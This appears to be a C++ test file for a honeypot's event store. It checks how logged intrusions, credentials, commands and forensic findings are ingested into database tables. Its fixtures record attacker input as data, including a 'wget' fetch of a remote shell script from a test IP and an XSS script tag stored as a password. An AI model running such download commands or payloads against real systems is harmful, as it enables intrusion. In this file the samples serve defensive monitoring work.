#include "oyster/store/event_store.h"

#include <gtest/gtest.h>

#include <atomic>
#include <chrono>
#include <fstream>
#include <mutex>
#include <thread>

#include <fmt/format.h>

#include "oyster/common/error.h"
#include "oyster/common/log_segments.h"
#include "oyster/store/store_schema.h"
#include "store_engines.h"

namespace oyster::store {
namespace {

const char* kOpened =
    R"({"ts":"2026-11-27T10:00:00.000Z","type":"intrusion_opened","intrusion_id":"i1","source_ip":"198.51.100.7",)"
    R"("guest_id":"g1","guest_ip":"10.213.0.2","dir":"/var/lib/oyster/guests/g1"})";
const char* kLogin =
    R"({"ts":"2026-11-27T10:00:01.000Z","type":"login","intrusion_id":"i1","source_ip":"198.51.100.7",)"
    R"("guest_id":"g1","service":"sshd","user":"root","password":"<script>alert(1)</script>","success":true,)"
    R"("reason":"listed account"})";
const char* kExec =
    R"({"ts":"2026-11-27T10:00:02.000Z","type":"capture","intrusion_id":"i1","source_ip":"198.51.100.7",)"
    R"("guest_id":"g1","event":{"type":"exec","pid":812,"path":"/usr/bin/wget","cwd":"/tmp",)"
    R"("argv":["wget","-q","http://203.0.113.9/x.sh"]}})";
const char* kClosed =
    R"({"ts":"2026-11-27T10:30:00.000Z","type":"intrusion_closed","intrusion_id":"i1","source_ip":"198.51.100.7",)"
    R"("guest_id":"g1","reason":"idle","connections":2,"pcap_files":1,"disk_bytes":4096,"dir":"/d"})";
const char* kOther = R"({"ts":"2026-11-27T10:31:00.000Z","type":"sensor_stopped","connections_accepted":3})";

class EventStoreTest : public testing::StoreEngineTest {
protected:
    std::filesystem::path jsonl() { return dir / "events.jsonl"; }
    void append(const std::string& text) { std::ofstream(jsonl(), std::ios::app | std::ios::binary) << text; }
};

TEST_P(EventStoreTest, EventsWrittenAreReadBackWithWhatTheyDescribe) {
    append(std::string(kOpened) + "\n" + kLogin + "\n" + kExec + "\n" + kClosed + "\n" + kOther + "\n");
    EventStore store(open_db());
    auto r = store.ingest_jsonl(jsonl());
    EXPECT_EQ(r.events, 5U);
    EXPECT_EQ(r.skipped, 0U);
    EXPECT_EQ(store.count("events"), 5U);
    EXPECT_EQ(store.count("intrusions"), 1U);
    EXPECT_EQ(store.count("credentials"), 1U);
    EXPECT_EQ(store.count("commands"), 1U);

    auto events = store.intrusion_events("i1");
    ASSERT_EQ(events.size(), 4U);
    EXPECT_EQ(events[0]["type"], "intrusion_opened");
    EXPECT_EQ(events[1]["password"], "<script>alert(1)</script>");  // stored as it came
    EXPECT_EQ(events[3]["reason"], "idle");

    Statement q(
        store.db(),
        "SELECT source_ip, opened, closed, close_reason, connections, disk_bytes FROM intrusions WHERE id='i1'");
    ASSERT_TRUE(q.step());
    EXPECT_EQ(q.text(0), "198.51.100.7");
    EXPECT_EQ(q.text(1), "2026-11-27T10:00:00.000Z");
    EXPECT_EQ(q.text(2), "2026-11-27T10:30:00.000Z");
    EXPECT_EQ(q.text(3), "idle");
    EXPECT_EQ(q.int64(4), 2);
    EXPECT_EQ(q.int64(5), 4096);
    Statement c(store.db(), "SELECT username, password, success, service FROM credentials");
    ASSERT_TRUE(c.step());
    EXPECT_EQ(c.text(0), "root");
    EXPECT_EQ(c.text(1), "<script>alert(1)</script>");
    EXPECT_EQ(c.int64(2), 1);
    EXPECT_EQ(c.text(3), "sshd");
    Statement m(store.db(), "SELECT command_line, argv, path, cwd, pid FROM commands");
    ASSERT_TRUE(m.step());
    EXPECT_EQ(m.text(0), "wget -q http://203.0.113.9/x.sh");
    EXPECT_EQ(m.text(1), R"(["wget","-q","http://203.0.113.9/x.sh"])");
    EXPECT_EQ(m.text(2), "/usr/bin/wget");
    EXPECT_EQ(m.text(3), "/tmp");
    EXPECT_EQ(m.int64(4), 812);
}

TEST_P(EventStoreTest, EachLineIsAddedOnceAcrossCallsAndReopens) {
    append(std::string(kOpened) + "\n" + kLogin + "\n");
    {
        EventStore store(open_db());
        EXPECT_EQ(store.ingest_jsonl(jsonl()).events, 2U);
        EXPECT_EQ(store.ingest_jsonl(jsonl()).events, 0U);
    }
    // A line still being written waits for its newline.
    append(std::string(kExec).substr(0, 40));
    EventStore store(open_db());
    auto r = store.ingest_jsonl(jsonl());
    EXPECT_EQ(r.events, 0U);
    EXPECT_EQ(r.skipped, 0U);
    append(std::string(kExec).substr(40) + "\n");
    EXPECT_EQ(store.ingest_jsonl(jsonl()).events, 1U);
    EXPECT_EQ(store.count("events"), 3U);
    EXPECT_EQ(store.count("commands"), 1U);
}

TEST_P(EventStoreTest, AReplacedFileIsReadFromItsStart) {
    append(std::string(kOpened) + "\n" + kLogin + "\n");
    EventStore store(open_db());
    EXPECT_EQ(store.ingest_jsonl(jsonl()).events, 2U);
    std::filesystem::remove(jsonl());
    append(std::string(kOther) + "\n");
    EXPECT_EQ(store.ingest_jsonl(jsonl()).events, 1U);
    EXPECT_EQ(store.count("events"), 3U);
}

TEST_P(EventStoreTest, WhatIsNotAnEventIsSkippedAndCounted) {
    std::string too_long = R"({"ts":"t","type":"x","pad":")" + std::string(EventStore::kMaxLineBytes + 10, 'a') + "\"}";
    append(std::string("not json\n") + "[1,2]\n" + R"({"type":"no ts"})" + "\n" + too_long + "\n" + kOther + "\n" +
           "\n");
    EventStore store(open_db());
    auto r = store.ingest_jsonl(jsonl());
    EXPECT_EQ(r.events, 1U);
    EXPECT_EQ(r.skipped, 5U);
    EXPECT_EQ(store.count("events"), 1U);
    EXPECT_EQ(store.ingest_jsonl(jsonl()).events + store.ingest_jsonl(jsonl()).skipped, 0U);
}

TEST_P(EventStoreTest, AMissingLogAddsNothing) {
    EventStore store(open_db());
    auto r = store.ingest_jsonl(dir / "none.jsonl");
    EXPECT_EQ(r.events + r.skipped + r.bytes, 0U);
}

// The sensor's feeder and `oyster store sync` may open a new store at once.
TEST_P(EventStoreTest, TwoProcessesCreatingTheStoreAtOnceBothSucceed) {
    for (int round = 0; round < 20; ++round) {
        auto file = where(fmt::format("race_{}", round));
        std::string errors;
        std::mutex mu;
        auto open = [&] {
            try {
                EventStore store(store::open_sql_db(file));
            } catch (const std::exception& e) {
                std::lock_guard lock(mu);
                errors += e.what();
            }
        };
        std::thread a(open), b(open);
        a.join();
        b.join();
        EXPECT_EQ(errors, "");
        EXPECT_EQ(store::open_sql_db(file)->schema_version(), store_schema_version());
    }
}

// The forensic analysis' events fill files, alerts and artefacts; a report
// repeated (a sensor that died while reporting) replaces, not duplicates.
// The sensor's feeder and a CLI command's sync ingest the same log at
// once: each line must still be stored once (the position is checked
// again under the write lock).
TEST_P(EventStoreTest, TwoIngestersAtOnceStoreEachLineOnce) {
    append("");
    std::atomic<bool> done{false};
    std::string errors;
    std::mutex mu;
    auto ingester = [&] {
        try {
            EventStore store(open_db());
            while (!done) store.ingest_jsonl(jsonl());
            store.ingest_jsonl(jsonl());
        } catch (const std::exception& e) {
            std::lock_guard lock(mu);
            errors += e.what();
        }
    };
    { EventStore create(open_db()); }
    std::thread a(ingester), b(ingester);
    constexpr int kLines = 3000;
    for (int i = 0; i < kLines; i += 10) {
        std::string batch;
        for (int j = i; j < i + 10; ++j) {
            batch += fmt::format(R"({{"ts":"2026-11-27T10:00:00.000Z","type":"sensor_started","n":{}}})", j) + "\n";
        }
        append(batch);
        std::this_thread::sleep_for(std::chrono::microseconds(200));
    }
    done = true;
    a.join();
    b.join();
    EXPECT_EQ(errors, "");
    EventStore store(open_db());
    EXPECT_EQ(store.count("events"), static_cast<std::uint64_t>(kLines));
    EXPECT_EQ(store.db().query_int("SELECT COUNT(DISTINCT body) FROM events"), kLines);
}

TEST_P(EventStoreTest, ForensicEventsFillTheirTablesOnce) {
    std::string report =
        R"({"ts":"2026-11-27T10:31:00.000Z","type":"forensic_file","intrusion_id":"i1","source_ip":"198.51.100.7",)"
        R"("change":"added","path":"/root/x.sh","what":[],"before":null,"after":{"ino":12,"mode":"100755",)"
        R"("uid":0,"gid":0,"size":40,"mtime":1795000000,"links":1},"sha256":"ab","file_type":"POSIX shell script",)"
        R"("mime":"text/x-shellscript","extracted":true,"evidence":"/e/ab"})"
        "\n"
        R"({"ts":"2026-11-27T10:31:00.000Z","type":"forensic_file","intrusion_id":"i1","change":"deleted",)"
        R"("path":"/etc/motd","before":{"ino":9,"mode":"100644","uid":0,"gid":0,"size":286,"mtime":1,"links":1},)"
        R"("after":null,"sha256":null,"sha256_before":"cd"})"
        "\n"
        R"({"ts":"2026-11-27T10:31:00.000Z","type":"forensic_file","intrusion_id":"i1","change":"executed",)"
        R"("path":"/root/x.sh","sha256":"ab","executions":3,"in_base_image":false})"
        "\n"
        R"({"ts":"2026-11-27T10:31:01.000Z","type":"alert","intrusion_id":"i1","rule":"dropper_download_and_run",)"
        R"("rule_file":"botnet_droppers.yar","tags":["dropper"],"severity":"medium","description":"<b>d</b>",)"
        R"("path":"/root/x.sh","sha256":"ab","change":"added","evidence":"/e/ab"})"
        "\n"
        R"({"ts":"2026-11-27T10:31:01.000Z","type":"artefact","intrusion_id":"i1","kind":"asciicast",)"
        R"("path":"capture/tty/pts0-1.cast","size":900,"sha256":"ef","tty_seq":77})"
        "\n"
        R"({"ts":"2026-11-27T10:31:02.000Z","type":"forensics_done","intrusion_id":"i1","files":3,"alerts":1,)"
        R"("artefacts":1,"duration_ms":300,"errors":[]})"
        "\n";
    append(std::string(kOpened) + "\n" + report + report);
    EventStore store(open_db());
    auto r = store.ingest_jsonl(jsonl());
    EXPECT_EQ(r.skipped, 0U);
    EXPECT_EQ(store.count("files"), 3U);
    EXPECT_EQ(store.count("alerts"), 1U);
    EXPECT_EQ(store.count("artefacts"), 1U);
    Statement f(store.db(), "SELECT size, mode, file_type, evidence FROM files WHERE change = 'added'");
    ASSERT_TRUE(f.step());
    EXPECT_EQ(f.int64(0), 40);
    EXPECT_EQ(f.text(1), "100755");
    EXPECT_EQ(f.text(2), "POSIX shell script");
    EXPECT_EQ(f.text(3), "/e/ab");
    Statement d(store.db(), "SELECT size, sha256_before FROM files WHERE change = 'deleted'");
    ASSERT_TRUE(d.step());
    EXPECT_EQ(d.int64(0), 286);
    EXPECT_EQ(d.text(1), "cd");
    Statement x(store.db(), "SELECT executions, in_base_image FROM files WHERE change = 'executed'");
    ASSERT_TRUE(x.step());
    EXPECT_EQ(x.int64(0), 3);
    EXPECT_EQ(x.int64(1), 0);
    Statement i(store.db(), "SELECT analysed, files_changed, alerts FROM intrusions WHERE id = 'i1'");
    ASSERT_TRUE(i.step());
    EXPECT_EQ(i.text(0), "2026-11-27T10:31:02.000Z");
    EXPECT_EQ(i.int64(1), 3);
    EXPECT_EQ(i.int64(2), 1);
}

TEST_P(EventStoreTest, MigratesAnEmptyDatabaseAndRefusesANewerOne) {
    {
        auto db = open_db();
        EXPECT_EQ(db->schema_version(), 0);
        migrate_store(*db);
        EXPECT_EQ(db->schema_version(), store_schema_version());
        if (!postgres()) {
            Statement mode(*db, "PRAGMA journal_mode");
            ASSERT_TRUE(mode.step());
            EXPECT_EQ(mode.text(0), "wal");
        }
        migrate_store(*db);  // idempotent
        EXPECT_EQ(db->schema_version(), store_schema_version());
        db->set_schema_version(store_schema_version() + 1);
    }
    try {
        EventStore store(open_db());
        FAIL() << "a newer schema was opened";
    } catch (const Error& e) {
        EXPECT_NE(std::string(e.what()).find("newer than this Oyster"), std::string::npos) << e.what();
    }
}

// The sensor's log rotated between syncs: the store reads the rest of the
// file it was in, then the newer ones, each line once; a new store reads
// every file kept.
TEST_P(EventStoreTest, ReadsOnAcrossARotation) {
    append(std::string(kOpened) + "\n");
    {
        EventStore store(open_db());
        EXPECT_EQ(store.ingest_jsonl(jsonl()).events, 1U);
        append(std::string(kLogin) + "\n");
        std::filesystem::rename(jsonl(), rotated_segment(jsonl(), 1));
        append(std::string(kExec) + "\n");
        std::filesystem::rename(jsonl(), rotated_segment(jsonl(), 2));
        append(std::string(kClosed) + "\n");
        EXPECT_EQ(store.ingest_jsonl(jsonl()).events, 3U);
        EXPECT_EQ(store.ingest_jsonl(jsonl()).events, 0U);
        append(std::string(kOther) + "\n");
        EXPECT_EQ(store.ingest_jsonl(jsonl()).events, 1U);
        EXPECT_EQ(store.count("events"), 5U);
        EXPECT_EQ(store.count("commands"), 1U);
    }
    EventStore fresh(open_db("fresh"));
    EXPECT_EQ(fresh.ingest_jsonl(jsonl()).events, 5U);
}

INSTANTIATE_TEST_SUITE_P(Engines, EventStoreTest, OYSTER_STORE_ENGINES);

}  // namespace
}  // namespace oyster::store
